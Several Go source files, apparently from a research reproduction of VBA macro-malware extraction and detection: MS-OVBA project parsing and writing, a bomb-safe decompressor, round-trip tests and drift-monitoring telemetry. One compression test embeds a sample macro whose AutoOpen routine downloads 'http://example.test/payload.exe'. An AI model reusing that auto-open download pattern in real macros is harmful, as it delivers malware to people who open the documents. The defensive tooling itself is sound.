			if cur != nil {
				cur.Type = ModuleDocument
			}
		case recModuleTerm:
			flush()
		}
	}
	flush()
	for i := range p.Modules {
		if p.Modules[i].StreamName == "" {
			p.Modules[i].StreamName = p.Modules[i].Name
		}
	}
	return nil
}

// WriteTo emits the full VBA project storage into b under prefix (""
// writes at the root, as in vbaProject.bin; "Macros" matches Word .doc
// layout). The streams produced are PROJECT, PROJECTwm, VBA/dir,
// VBA/_VBA_PROJECT, and one VBA/<stream> per module.
func (p *Project) WriteTo(b *cfb.Builder, prefix string) error {
	join := func(parts ...string) string {
		var nonEmpty []string
		for _, s := range parts {
			if s != "" {
				nonEmpty = append(nonEmpty, s)
			}
		}
		return strings.Join(nonEmpty, "/")
	}
	name := p.Name
	if name == "" {
		name = "VBAProject"
	}

	// PROJECT stream: plain-text project properties.
	var proj strings.Builder
	fmt.Fprintf(&proj, "ID=\"{00000000-0000-0000-0000-000000000000}\"\r\n")
	for _, m := range p.Modules {
		if m.Type == ModuleDocument {
			fmt.Fprintf(&proj, "Document=%s/&H00000000\r\n", m.Name)
		} else {
			fmt.Fprintf(&proj, "Module=%s\r\n", m.Name)
		}
	}
	fmt.Fprintf(&proj, "Name=\"%s\"\r\n", name)
	fmt.Fprintf(&proj, "HelpContextID=\"0\"\r\n")
	fmt.Fprintf(&proj, "VersionCompatible32=\"393222000\"\r\n")
	fmt.Fprintf(&proj, "CMG=\"\"\r\nDPB=\"\"\r\nGC=\"\"\r\n")
	if err := b.AddStream(join(prefix, "PROJECT"), []byte(proj.String())); err != nil {
		return err
	}

	// PROJECTwm stream: module name map (MBCS + UTF-16 pairs, double-null
	// terminated).
	var wm []byte
	for _, m := range p.Modules {
		wm = append(wm, encodeMBCS(m.Name)...)
		wm = append(wm, 0)
		wm = append(wm, encodeUTF16(m.Name)...)
		wm = append(wm, 0, 0)
	}
	wm = append(wm, 0, 0)
	if err := b.AddStream(join(prefix, "PROJECTwm"), wm); err != nil {
		return err
	}

	// VBA/_VBA_PROJECT: performance cache header; only the 6 fixed bytes
	// matter to readers ([MS-OVBA] §2.3.4.1).
	vbaProj := []byte{0xCC, 0x61, 0xFF, 0xFF, 0x00, 0x00, 0x00}
	if err := b.AddStream(join(prefix, "VBA", "_VBA_PROJECT"), vbaProj); err != nil {
		return err
	}

	// Module streams: no performance cache (TextOffset 0), compressed
	// source only.
	for _, m := range p.Modules {
		streamName := m.StreamName
		if streamName == "" {
			streamName = m.Name
		}
		data := Compress(encodeMBCS(m.Source))
		if err := b.AddStream(join(prefix, "VBA", streamName), data); err != nil {
			return err
		}
	}

	// VBA/dir: compressed record stream.
	dir := p.buildDir(name)
	if err := b.AddStream(join(prefix, "VBA", "dir"), Compress(dir)); err != nil {
		return err
	}
	return nil
}

// buildDir serializes the decompressed dir stream.
func (p *Project) buildDir(name string) []byte {
	var out []byte
	le := binary.LittleEndian
	rec := func(id uint16, body []byte) {
		var hdr [6]byte
		le.PutUint16(hdr[:], id)
		le.PutUint32(hdr[2:], uint32(len(body)))
		out = append(out, hdr[:]...)
		out = append(out, body...)
	}
	u16 := func(v uint16) []byte { b := make([]byte, 2); le.PutUint16(b, v); return b }
	u32 := func(v uint32) []byte { b := make([]byte, 4); le.PutUint32(b, v); return b }

	rec(recSysKind, u32(1)) // Win32
	rec(recLCID, u32(0x409))
	rec(recLCIDInvoke, u32(0x409))
	rec(recCodePage, u16(1252))
	rec(recName, encodeMBCS(name))
	rec(recDocString, nil)
	rec(recDocStringUni, nil)
	rec(recHelpFile, nil)
	rec(recHelpFileUni, nil)
	rec(recHelpContext, u32(0))
	rec(recLibFlags, u32(0))
	// PROJECTVERSION: size field covers the reserved dword only; the
	// major/minor version bytes follow outside the declared size.
	rec(recVersion, nil)
	out = append(out, u32(0x659B66C5)...) // version major
	out = append(out, u16(0x0010)...)     // version minor
	rec(recConstants, nil)
	rec(recConstantsUni, nil)
	// A single standard reference to stdole2, as every real project has.
	rec(recRefName, encodeMBCS("stdole"))
	rec(recRefNameUni, encodeUTF16("stdole"))
	libid := "*\\G{00020430-0000-0000-C000-000000000046}#2.0#0#C:\\Windows\\system32\\stdole2.tlb#OLE Automation"
	refBody := append(u32(uint32(len(libid))), encodeMBCS(libid)...)
	refBody = append(refBody, u32(0)...)
	refBody = append(refBody, u16(0)...)
	rec(recRefRegistered, refBody)

	rec(recModules, u16(uint16(len(p.Modules))))
	rec(recCookie, u16(0xFFFF))
	for _, m := range p.Modules {
		streamName := m.StreamName
		if streamName == "" {
			streamName = m.Name
		}
		rec(recModuleName, encodeMBCS(m.Name))
		rec(recModuleNameUni, encodeUTF16(m.Name))
		rec(recModuleStream, encodeMBCS(streamName))
		rec(recModuleStreamUni, encodeUTF16(streamName))
		rec(recModuleDocString, nil)
		rec(recModuleDocUni, nil)
		rec(recModuleOffset, u32(0))
		rec(recModuleHelpCtx, u32(0))
		rec(recModuleCookie, u16(0xFFFF))
		if m.Type == ModuleDocument {
			rec(recModuleDoc, nil)
		} else {
			rec(recModuleProc, nil)
		}
		rec(recModuleTerm, nil)
	}
	rec(recTerminator, nil)
	out = append(out, u32(0)...) // terminator reserved dword
	return out
}

// decodeMBCS decodes project text bytes. Code page 1252 and other
// ASCII-supersets are decoded as Latin-1, which is lossless for the byte
// values and sufficient for feature extraction.
func decodeMBCS(b []byte) string {
	runes := make([]rune, len(b))
	for i, c := range b {
		runes[i] = rune(c)
	}
	return string(runes)
}

// encodeMBCS is the inverse of decodeMBCS for the Latin-1 subset; runes
// above 0xFF are replaced with '?'.
func encodeMBCS(s string) []byte {
	out := make([]byte, 0, len(s))
	for _, r := range s {
		if r > 0xFF {
			out = append(out, '?')
			continue
		}
		out = append(out, byte(r))
	}
	return out
}

// encodeUTF16 encodes s as UTF-16LE without a terminator.
func encodeUTF16(s string) []byte {
	units := utf16.Encode([]rune(s))
	out := make([]byte, 2*len(units))
	for i, u := range units {
		out[2*i] = byte(u)
		out[2*i+1] = byte(u >> 8)
	}
	return out
}

// ReadProjectLenient reads a VBA project like ReadProject, but degrades
// gracefully the way olevba does when malware corrupts project metadata:
//
//   - if the dir stream is missing or unparsable, the module list is
//     rebuilt from the plain-text PROJECT stream;
//   - if a module's text offset is wrong or its stream's performance
//     cache is corrupt, the compressed source container is located by
//     scanning the stream for a valid container signature.
//
// Streams that still cannot be recovered are recorded in Project.Issues,
// so a partially corrupted project yields the surviving modules plus a
// per-stream failure list instead of nothing. The error is non-nil only
// when no module source could be recovered at all; in that case it is the
// most severe per-stream failure (budget exhaustion outranks corruption).
func ReadProjectLenient(root *cfb.Storage) (*Project, error) {
	return ReadProjectLenientBudget(root, hostile.NewBudget(hostile.DefaultLimits()))
}

// ReadProjectLenientBudget is ReadProjectLenient with an explicit budget.
func ReadProjectLenientBudget(root *cfb.Storage, bud *hostile.Budget) (*Project, error) {
	strict, strictErr := ReadProjectBudget(root, bud)
	if strictErr == nil {
		return strict, nil
	}
	// A blown deadline is not worth retrying leniently: the document
	// already consumed its time budget.
	if hostile.Classify(strictErr) == "deadline" {
		return nil, strictErr
	}
	vbaStorage := root.Storage("VBA")
	if vbaStorage == nil {
		return nil, ErrNoVBAStorage
	}
	p := &Project{CodePage: 1252}
	// Module names from the PROJECT text stream when available; otherwise
	// every stream in the VBA storage except the bookkeeping ones is a
	// candidate module.
	names := parseProjectStream(root)
	if len(names) == 0 {
		for _, s := range vbaStorage.Streams {
			switch strings.ToLower(s.Name) {
			case "dir", "_vba_project", "__srp_0", "__srp_1", "__srp_2", "__srp_3":
				continue
			}
			names = append(names, s.Name)
		}
	}
	for _, name := range names {
		if err := bud.CheckDeadline(); err != nil {
			p.Issues = append(p.Issues, Issue{Stream: name, Err: err})
			break
		}
		stream := vbaStorage.Stream(name)
		if stream == nil {
			p.Issues = append(p.Issues, Issue{
				Stream: name,
				Err:    fmt.Errorf("%w: module stream %q missing (%w)", ErrBadDirStream, name, hostile.ErrTruncated),
			})
			continue
		}
		src, err := scanForSource(stream.Data, bud)
		if err != nil {
			p.Issues = append(p.Issues, Issue{Stream: name, Err: err})
			continue
		}
		p.Modules = append(p.Modules, Module{
			Name:       name,
			StreamName: stream.Name,
			Source:     src,
			Type:       ModuleProcedural,
		})
	}
	if len(p.Modules) == 0 {
		return nil, worstIssue(p.Issues, fmt.Errorf("%w: no recoverable module streams (%w)",
			ErrBadDirStream, hostile.ErrMalformed))
	}
	return p, nil
}

// worstIssue picks the error to surface when nothing was recovered:
// budget exhaustion (bombs, limits, deadlines) outranks structural
// corruption, because it changes how the caller treats the document
// (quarantine versus reject).
func worstIssue(issues []Issue, fallback error) error {
	var structural error
	for _, iss := range issues {
		if hostile.ExhaustsBudget(iss.Err) {
			return iss.Err
		}
		if structural == nil && iss.Err != nil {
			structural = iss.Err
		}
	}
	if structural != nil {
		return structural
	}
	return fallback
}

// parseProjectStream extracts module names from the PROJECT text stream
// ("Module=Name" / "Document=Name/&H00000000" lines).
func parseProjectStream(root *cfb.Storage) []string {
	stream := root.Stream("PROJECT")
	if stream == nil {
		return nil
	}
	var names []string
	for _, line := range strings.Split(decodeMBCS(stream.Data), "\n") {
		line = strings.TrimRight(line, "\r")
		var value string
		switch {
		case strings.HasPrefix(line, "Module="):
			value = strings.TrimPrefix(line, "Module=")
		case strings.HasPrefix(line, "Document="):
			value = strings.TrimPrefix(line, "Document=")
			if i := strings.IndexByte(value, '/'); i >= 0 {
				value = value[:i]
			}
		default:
			continue
		}
		if value != "" {
			names = append(names, value)
		}
	}
	return names
}

// scanForSource locates the compressed source container inside a module
// stream whose text offset is unknown: it scans for a byte that looks like
// a container signature followed by a valid chunk header and tries to
// decompress from there. Each speculative attempt runs on a fork of the
// budget (fresh byte counters, shared deadline) so failed attempts do not
// eat the document's cumulative allowance; the winning attempt's output is
// charged to the parent. The returned error is the most relevant failure:
// budget exhaustion if any attempt hit it, otherwise a not-found error.
func scanForSource(data []byte, bud *hostile.Budget) (string, error) {
	var exhausted error
	for off := 0; off+3 <= len(data); off++ {
		if data[off] != containerSignature {
			continue
		}
		header := uint16(data[off+1]) | uint16(data[off+2])<<8
		if (header>>12)&0x7 != chunkHeaderSig {
			continue
		}
		if err := bud.CheckDeadline(); err != nil {
			return "", err
		}
		out, err := DecompressBudget(data[off:], bud.Fork())
		if err != nil {
			if exhausted == nil && hostile.ExhaustsBudget(err) {
				exhausted = err
			}
			continue
		}
		if len(out) == 0 {
			continue
		}
		if err := bud.GrowOutput(int64(len(out))); err != nil {
			return "", err
		}
		return decodeMBCS(out), nil
	}
	if exhausted != nil {
		return "", exhausted
	}
	return "", fmt.Errorf("%w: no recoverable source container (%w)", ErrBadDirStream, hostile.ErrMalformed)
}
