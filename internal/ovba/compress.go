// Package ovba implements the [MS-OVBA] VBA project storage: the
// CompressedContainer codec used for module source and the dir stream, the
// dir-stream record grammar, and reading/writing whole VBA projects inside
// a compound-file storage.
//
// Together with package cfb this is the functional equivalent of the
// oletools/olevba extraction path the paper relies on, plus the inverse
// (project writing) needed to synthesize the evaluation corpus.
package ovba

import (
	"errors"
	"fmt"

	"repro/internal/hostile"
)

// Container framing constants ([MS-OVBA] §2.4.1).
const (
	containerSignature  = 0x01
	chunkSize           = 4096
	chunkHeaderSig      = 0x3 // bits 12..14 of the chunk header
	rawChunkHeader      = 0x3FFF
	maxCompressedChunk  = 4095 + 3
	copyTokenMinLength  = 3
	flagBitsPerFlagByte = 8
)

// ErrBadContainer reports malformed compressed-container framing.
var ErrBadContainer = errors.New("ovba: malformed compressed container")

// Decompress decodes an [MS-OVBA] CompressedContainer under the default
// resource budget (hostile.DefaultLimits).
func Decompress(data []byte) ([]byte, error) {
	return DecompressBudget(data, hostile.NewBudget(hostile.DefaultLimits()))
}

// DecompressBudget is Decompress with an explicit resource budget. The
// CompressedContainer codec expands copy tokens to thousands of output
// bytes each, so hostile containers are the pipeline's cheapest
// decompression bomb; output is checked against the budget's allowance as
// it grows and charged when the container decodes successfully. Framing
// errors wrap ErrBadContainer plus their hostile-taxonomy class
// (hostile.ErrTruncated / hostile.ErrMalformed). A nil budget disables the
// limits.
func DecompressBudget(data []byte, bud *hostile.Budget) ([]byte, error) {
	if len(data) == 0 || data[0] != containerSignature {
		return nil, fmt.Errorf("%w: missing 0x01 signature (%w)", ErrBadContainer, hostile.ErrMalformed)
	}
	allow := bud.OutputAllowance()
	var out []byte
	pos := 1
	for pos < len(data) {
		if err := bud.CheckDeadline(); err != nil {
			return nil, err
		}
		if pos+2 > len(data) {
			return nil, fmt.Errorf("%w: truncated chunk header (%w)", ErrBadContainer, hostile.ErrTruncated)
		}
		header := uint16(data[pos]) | uint16(data[pos+1])<<8
		pos += 2
		size := int(header&0x0FFF) + 3
		if sig := (header >> 12) & 0x7; sig != chunkHeaderSig {
			return nil, fmt.Errorf("%w: bad chunk signature %#x (%w)", ErrBadContainer, sig, hostile.ErrMalformed)
		}
		compressed := header&0x8000 != 0
		chunkEnd := pos - 2 + size
		if chunkEnd > len(data) {
			return nil, fmt.Errorf("%w: chunk extends past container end (%w)", ErrBadContainer, hostile.ErrTruncated)
		}
		if !compressed {
			// Raw chunk: 4096 literal bytes (the final chunk may be short
			// in files emitted by some producers; accept what is present).
			end := pos + chunkSize
			if end > len(data) {
				end = len(data)
			}
			out = append(out, data[pos:end]...)
			if int64(len(out)) > allow {
				return nil, bud.BombError(int64(len(out)))
			}
			pos = end
			continue
		}
		chunkStart := len(out)
		for pos < chunkEnd {
			flags := data[pos]
			pos++
			for bit := 0; bit < flagBitsPerFlagByte && pos < chunkEnd; bit++ {
				if flags&(1<<bit) == 0 {
					out = append(out, data[pos])
					pos++
					continue
				}
				if pos+2 > chunkEnd {
					return nil, fmt.Errorf("%w: truncated copy token (%w)", ErrBadContainer, hostile.ErrTruncated)
				}
				token := uint16(data[pos]) | uint16(data[pos+1])<<8
				pos += 2
				decompressedSoFar := len(out) - chunkStart
				bits := copyTokenBits(decompressedSoFar)
				lengthMask := uint16(0xFFFF) >> bits
				length := int(token&lengthMask) + copyTokenMinLength
				offset := int(token>>(16-bits)) + 1
				if offset > decompressedSoFar {
					return nil, fmt.Errorf("%w: copy offset %d exceeds window %d (%w)",
						ErrBadContainer, offset, decompressedSoFar, hostile.ErrMalformed)
				}
				// Check the expansion before materializing it: a copy token
				// is the bomb primitive (up to 4098 bytes from 2).
				if int64(len(out)+length) > allow {
					return nil, bud.BombError(int64(len(out) + length))
				}
				for i := 0; i < length; i++ {
					out = append(out, out[len(out)-offset])
				}
			}
		}
	}
	if err := bud.GrowOutput(int64(len(out))); err != nil {
		return nil, err
	}
	return out, nil
}

// Compress encodes data as an [MS-OVBA] CompressedContainer using greedy
// LZ77 matching within each 4096-byte chunk. Chunks whose compressed form
// would exceed the raw size fall back to raw chunks, as the spec requires.
func Compress(data []byte) []byte {
	out := []byte{containerSignature}
	for start := 0; start < len(data); start += chunkSize {
		end := start + chunkSize
		if end > len(data) {
			end = len(data)
		}
		chunk := data[start:end]
		body := compressChunk(chunk)
		if len(body) >= len(chunk) && len(chunk) == chunkSize {
			// Raw chunk: header size field 4095, compressed flag clear.
			out = append(out, 0xFF, 0x3F)
			out = append(out, chunk...)
			continue
		}
		header := uint16(len(body)+2-3) | uint16(chunkHeaderSig)<<12 | 0x8000
		out = append(out, byte(header), byte(header>>8))
		out = append(out, body...)
	}
	return out
}

// compressChunk produces the token stream for one chunk (no header).
func compressChunk(chunk []byte) []byte {
	var out []byte
	// idx chains recent positions sharing a 3-byte prefix.
	idx := make(map[uint32][]int)
	hash3 := func(i int) uint32 {
		return uint32(chunk[i]) | uint32(chunk[i+1])<<8 | uint32(chunk[i+2])<<16
	}
	index := func(p int) {
		if p+2 < len(chunk) {
			h := hash3(p)
			idx[h] = appendCapped(idx[h], p)
		}
	}
	pos := 0
	for pos < len(chunk) {
		flagIdx := len(out)
		out = append(out, 0) // flag byte placeholder
		var flags byte
		for bit := 0; bit < flagBitsPerFlagByte && pos < len(chunk); bit++ {
			bits := copyTokenBits(pos)
			maxLen := int(uint16(0xFFFF)>>bits) + copyTokenMinLength
			maxOffset := 1 << bits
			bestLen, bestOffset := 0, 0
			if pos+copyTokenMinLength <= len(chunk) {
				for _, cand := range idx[hash3(pos)] {
					offset := pos - cand
					if offset > maxOffset || offset <= 0 {
						continue
					}
					// Comparing against the original buffer is valid even
					// for overlapping copies: decompression reproduces
					// chunk[cand+l] at pos+l by induction.
					l := 0
					for pos+l < len(chunk) && l < maxLen && chunk[cand+l] == chunk[pos+l] {
						l++
					}
					if l > bestLen {
						bestLen, bestOffset = l, offset
					}
				}
			}
			if bestLen >= copyTokenMinLength {
				token := uint16(bestLen-copyTokenMinLength) |
					uint16(bestOffset-1)<<(16-bits)
				out = append(out, byte(token), byte(token>>8))
				flags |= 1 << bit
				for endPos := pos + bestLen; pos < endPos; pos++ {
					index(pos)
				}
				continue
			}
			index(pos)
			out = append(out, chunk[pos])
			pos++
		}
		out[flagIdx] = flags
	}
	return out
}

// appendCapped appends pos keeping only the most recent candidates so
// pathological inputs stay linear.
func appendCapped(s []int, pos int) []int {
	const maxChain = 32
	if len(s) >= maxChain {
		copy(s, s[1:])
		s = s[:maxChain-1]
	}
	return append(s, pos)
}

// copyTokenBits returns the offset bit width for a copy token at the given
// decompressed-position-within-chunk, per [MS-OVBA] §2.4.1.3.19.3
// (CopyTokenHelp): max(ceil(log2(position)), 4).
func copyTokenBits(position int) uint {
	bits := uint(4)
	for 1<<bits < position {
		bits++
	}
	if bits > 12 {
		bits = 12
	}
	return bits
}
