package ovba

import (
	"bytes"
	"math/rand"
	"strings"
	"testing"
	"testing/quick"
)

func roundTrip(t *testing.T, data []byte) {
	t.Helper()
	comp := Compress(data)
	got, err := Decompress(comp)
	if err != nil {
		t.Fatalf("Decompress: %v (input %d bytes, compressed %d)", err, len(data), len(comp))
	}
	if !bytes.Equal(got, data) {
		t.Fatalf("round trip mismatch: in %d bytes, out %d bytes", len(data), len(got))
	}
}

func TestCompressRoundTripBasic(t *testing.T) {
	cases := [][]byte{
		nil,
		{},
		[]byte("a"),
		[]byte("ab"),
		[]byte("abc"),
		[]byte("#aaabcdefaaaaghijaaaa"),
		[]byte(strings.Repeat("a", 4096)),
		[]byte(strings.Repeat("a", 4097)),
		[]byte(strings.Repeat("ab", 5000)),
		[]byte("Sub Hello()\r\n    MsgBox \"hi\"\r\nEnd Sub\r\n"),
	}
	for _, c := range cases {
		roundTrip(t, c)
	}
}

func TestCompressRoundTripVBASource(t *testing.T) {
	src := strings.Repeat(`Attribute VB_Name = "Module1"
Sub AutoOpen()
    Dim u As String
    u = "http://example.test/payload.exe"
    Call Download(u)
End Sub
`, 40)
	roundTrip(t, []byte(src))
	// Repetitive source must actually compress.
	if comp := Compress([]byte(src)); len(comp) >= len(src) {
		t.Errorf("repetitive source did not compress: %d >= %d", len(comp), len(src))
	}
}

func TestCompressRandomDataFallsBackToRaw(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	data := make([]byte, 3*4096)
	rng.Read(data)
	roundTrip(t, data)
}

func TestCompressChunkBoundaries(t *testing.T) {
	for _, n := range []int{4095, 4096, 4097, 8191, 8192, 8193, 12288} {
		data := make([]byte, n)
		for i := range data {
			data[i] = byte(i % 251)
		}
		roundTrip(t, data)
	}
}

func TestDecompressRejectsBadInput(t *testing.T) {
	cases := [][]byte{
		{},                                // empty
		{0x02},                            // wrong signature
		{0x01, 0x05},                      // truncated chunk header
		{0x01, 0xFF},                      // truncated chunk header
		{0x01, 0, 0},                      // bad chunk signature (bits 12..14 = 0)
		{0x01, 3, 0xB0, 0x01, 0xFF, 0xFF}, // copy token with offset into empty window
	}
	for _, c := range cases {
		if _, err := Decompress(c); err == nil {
			t.Errorf("Decompress(%v) succeeded", c)
		}
	}
}

func TestDecompressEmptyContainer(t *testing.T) {
	got, err := Decompress([]byte{0x01})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 0 {
		t.Errorf("got %d bytes", len(got))
	}
}

func TestDecompressKnownVector(t *testing.T) {
	// Hand-computed vector for "#aaabcdefaaaaghijaaaa" (the [MS-OVBA]
	// worked example input): one compressed chunk, two copy tokens with
	// 4-bit and 5-bit offset widths.
	comp := []byte{
		0x01, 0x14, 0xB0, 0x00, 0x23, 0x61, 0x61, 0x61,
		0x62, 0x63, 0x64, 0x65, 0x82, 0x66, 0x00, 0x70,
		0x61, 0x67, 0x68, 0x69, 0x6A, 0x01, 0x38, 0x08,
	}
	got, err := Decompress(comp)
	if err != nil {
		t.Fatal(err)
	}
	want := "#aaabcdefaaaaghijaaaa"
	if string(got) != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestCompressRoundTripProperty(t *testing.T) {
	f := func(data []byte) bool {
		comp := Compress(data)
		got, err := Decompress(comp)
		return err == nil && bytes.Equal(got, data)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestCompressRoundTripLowEntropyProperty(t *testing.T) {
	// Low-entropy inputs exercise copy tokens far more than uniform fuzz.
	f := func(seed int64, n uint16) bool {
		rng := rand.New(rand.NewSource(seed))
		data := make([]byte, int(n)%10000)
		for i := range data {
			data[i] = byte(rng.Intn(4))
		}
		comp := Compress(data)
		got, err := Decompress(comp)
		return err == nil && bytes.Equal(got, data)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

func TestCopyTokenBits(t *testing.T) {
	cases := map[int]uint{
		0: 4, 1: 4, 16: 4, 17: 5, 32: 5, 33: 6,
		64: 6, 65: 7, 1024: 10, 2048: 11, 4096: 12,
	}
	for pos, want := range cases {
		if got := copyTokenBits(pos); got != want {
			t.Errorf("copyTokenBits(%d) = %d, want %d", pos, got, want)
		}
	}
}

func BenchmarkCompress(b *testing.B) {
	src := []byte(strings.Repeat("Dim x As Long\r\nx = x + 1\r\n", 200))
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Compress(src)
	}
}

func BenchmarkDecompress(b *testing.B) {
	src := []byte(strings.Repeat("Dim x As Long\r\nx = x + 1\r\n", 200))
	comp := Compress(src)
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Decompress(comp); err != nil {
			b.Fatal(err)
		}
	}
}
