// Model-drift monitoring: compare the production score distribution per
// feature channel against the baseline distribution recorded at train
// time, summarized as a PSI (Population Stability Index) per channel.
//
// PSI is the standard model-monitoring statistic: sum over bins of
// (p - b) * ln(p / b), where b is the baseline proportion and p the
// production proportion. Conventional reading: < 0.1 stable, 0.1–0.25
// drifting, > 0.25 action required. The monitor never affects verdicts;
// it only feeds gauges and a /healthz detail.

package telemetry

import (
	"math"
	"sort"
	"sync"
)

// DriftBins is the fixed bin count for score distributions. Scores live
// in [0,1], so ten equal-width bins are comparable across train time and
// production without carrying bin edges around.
const DriftBins = 10

// driftEpsilon smooths empty bins so the PSI log term stays finite.
const driftEpsilon = 1e-4

// DefaultDriftWindow is how many recent production observations the
// rolling distribution approximates (bin counts are halved when the
// total passes the window, an exponential-decay rolling window).
const DefaultDriftWindow = 4096

// driftMinCount is the observation floor below which PSI reports 0 —
// a handful of scans is noise, not a distribution.
const driftMinCount = 50

// ScoreBins buckets scores (clamped to [0,1]) into DriftBins equal-width
// bins and returns the proportion landing in each. Returns nil for an
// empty input.
func ScoreBins(scores []float64) []float64 {
	if len(scores) == 0 {
		return nil
	}
	counts := make([]float64, DriftBins)
	for _, s := range scores {
		counts[scoreBin(s)]++
	}
	n := float64(len(scores))
	for i := range counts {
		counts[i] /= n
	}
	return counts
}

func scoreBin(s float64) int {
	if s <= 0 || math.IsNaN(s) {
		return 0
	}
	if s >= 1 {
		return DriftBins - 1
	}
	i := int(s * DriftBins)
	if i >= DriftBins {
		i = DriftBins - 1
	}
	return i
}

// PSI computes the Population Stability Index between a baseline and a
// production proportion vector (both length DriftBins), with epsilon
// smoothing so empty bins do not blow up the log term.
func PSI(baseline, production []float64) float64 {
	if len(baseline) != DriftBins || len(production) != DriftBins {
		return 0
	}
	var psi float64
	for i := 0; i < DriftBins; i++ {
		b := math.Max(baseline[i], driftEpsilon)
		p := math.Max(production[i], driftEpsilon)
		psi += (p - b) * math.Log(p/b)
	}
	return psi
}

// driftChannel is one monitored score stream.
type driftChannel struct {
	baseline []float64 // train-time proportions; nil = no baseline shipped
	counts   [DriftBins]int64
	total    int64
}

// DriftMonitor tracks rolling production score distributions per channel
// and scores each against its train-time baseline. Safe for concurrent
// use; channels without a baseline (models saved before baselines
// existed) still appear with PSI 0 so dashboards see the family.
type DriftMonitor struct {
	mu       sync.Mutex
	window   int64
	channels map[string]*driftChannel
	order    []string
}

// NewDriftMonitor builds a monitor with the given rolling window
// (observations per channel; <= 0 means DefaultDriftWindow).
func NewDriftMonitor(window int) *DriftMonitor {
	if window <= 0 {
		window = DefaultDriftWindow
	}
	return &DriftMonitor{window: int64(window), channels: make(map[string]*driftChannel)}
}

func (m *DriftMonitor) channel(name string) *driftChannel {
	ch, ok := m.channels[name]
	if !ok {
		ch = &driftChannel{}
		m.channels[name] = ch
		m.order = append(m.order, name)
		sort.Strings(m.order)
	}
	return ch
}

// SetBaseline installs the train-time bin proportions for a channel
// (length DriftBins; anything else registers the channel without a
// baseline). Nil m is a no-op.
func (m *DriftMonitor) SetBaseline(name string, bins []float64) {
	if m == nil {
		return
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	ch := m.channel(name)
	if len(bins) == DriftBins {
		ch.baseline = append([]float64(nil), bins...)
	} else {
		ch.baseline = nil
	}
}

// Observe records one production score for a channel. When the rolling
// total passes the window, every bin is halved — an exponential-decay
// approximation of a sliding window that needs no timestamps.
func (m *DriftMonitor) Observe(name string, score float64) {
	if m == nil {
		return
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	ch := m.channel(name)
	ch.counts[scoreBin(score)]++
	ch.total++
	if ch.total > m.window {
		var kept int64
		for i := range ch.counts {
			ch.counts[i] /= 2
			kept += ch.counts[i]
		}
		ch.total = kept
	}
}

// psiLocked computes the channel's current PSI. Callers hold m.mu.
func (ch *driftChannel) psiLocked() float64 {
	if ch.baseline == nil || ch.total < driftMinCount {
		return 0
	}
	prod := make([]float64, DriftBins)
	for i := range ch.counts {
		prod[i] = float64(ch.counts[i]) / float64(ch.total)
	}
	return PSI(ch.baseline, prod)
}

// Snapshot returns every channel (sorted) with its current PSI — the
// shape Registry.LabeledGaugeFunc wants.
func (m *DriftMonitor) Snapshot() ([]string, []float64) {
	if m == nil {
		return nil, nil
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	names := append([]string(nil), m.order...)
	vals := make([]float64, len(names))
	for i, n := range names {
		vals[i] = m.channels[n].psiLocked()
	}
	return names, vals
}

// MaxPSI returns the worst channel and its PSI (ok=false when no channel
// is registered) — the /healthz drift detail.
func (m *DriftMonitor) MaxPSI() (name string, psi float64, ok bool) {
	names, vals := m.Snapshot()
	for i, n := range names {
		if !ok || vals[i] > psi {
			name, psi, ok = n, vals[i], true
		}
	}
	return name, psi, ok
}
