package telemetry

import (
	"math"
	"strings"
	"testing"
	"time"
)

// fakeClock drives an SLOTracker deterministically.
type fakeClock struct{ t time.Time }

func (c *fakeClock) now() time.Time                     { return c.t }
func (c *fakeClock) advance(d time.Duration)            { c.t = c.t.Add(d) }
func newFakeClock() *fakeClock                          { return &fakeClock{t: time.Unix(1_700_000_000, 0)} }
func withClock(s *SLOTracker, c *fakeClock) *SLOTracker { s.now = c.now; return s }

func TestSLOTrackerRatios(t *testing.T) {
	clk := newFakeClock()
	s := withClock(NewSLOTracker(0.999, 0.99, 100*time.Millisecond), clk)

	for i := 0; i < 90; i++ {
		s.Observe(200, 10*time.Millisecond)
	}
	for i := 0; i < 10; i++ {
		s.Observe(500, 300*time.Millisecond)
	}
	r := s.Read(SLOShortWindow)
	if r.Requests != 100 {
		t.Fatalf("requests = %d", r.Requests)
	}
	if math.Abs(r.Availability-0.9) > 1e-9 {
		t.Fatalf("availability = %g", r.Availability)
	}
	if math.Abs(r.LatencyRatio-0.9) > 1e-9 {
		t.Fatalf("latency ratio = %g", r.LatencyRatio)
	}
	// 10% errors against a 0.1% budget: burn rate 100.
	if math.Abs(r.AvailabilityBurn-100) > 1e-6 {
		t.Fatalf("availability burn = %g", r.AvailabilityBurn)
	}
	// 10% slow against a 1% budget: burn rate 10.
	if math.Abs(r.LatencyBurn-10) > 1e-6 {
		t.Fatalf("latency burn = %g", r.LatencyBurn)
	}
}

func TestSLOTrackerWindowExpiry(t *testing.T) {
	clk := newFakeClock()
	s := withClock(NewSLOTracker(0, 0, 0), clk)
	s.Observe(500, time.Second) // a bad request, now
	if r := s.Read(SLOShortWindow); r.Requests != 1 || r.Availability != 0 {
		t.Fatalf("fresh: %+v", r)
	}
	clk.advance(6 * time.Minute)
	if r := s.Read(SLOShortWindow); r.Requests != 0 || r.Availability != 1 {
		t.Fatalf("short window kept expired data: %+v", r)
	}
	// Still visible in the long window.
	if r := s.Read(SLOLongWindow); r.Requests != 1 {
		t.Fatalf("long window lost data: %+v", r)
	}
	clk.advance(time.Hour)
	if r := s.Read(SLOLongWindow); r.Requests != 0 {
		t.Fatalf("long window kept expired data: %+v", r)
	}
}

func TestSLOTrackerEmptyWindowIsHealthy(t *testing.T) {
	s := NewSLOTracker(0, 0, 0)
	r := s.Read(SLOShortWindow)
	if r.Availability != 1 || r.LatencyRatio != 1 || r.AvailabilityBurn != 0 {
		t.Fatalf("empty window: %+v", r)
	}
	var nilTracker *SLOTracker
	nilTracker.Observe(200, time.Millisecond)
	if r := nilTracker.Read(SLOShortWindow); r.Availability != 1 {
		t.Fatalf("nil tracker: %+v", r)
	}
}

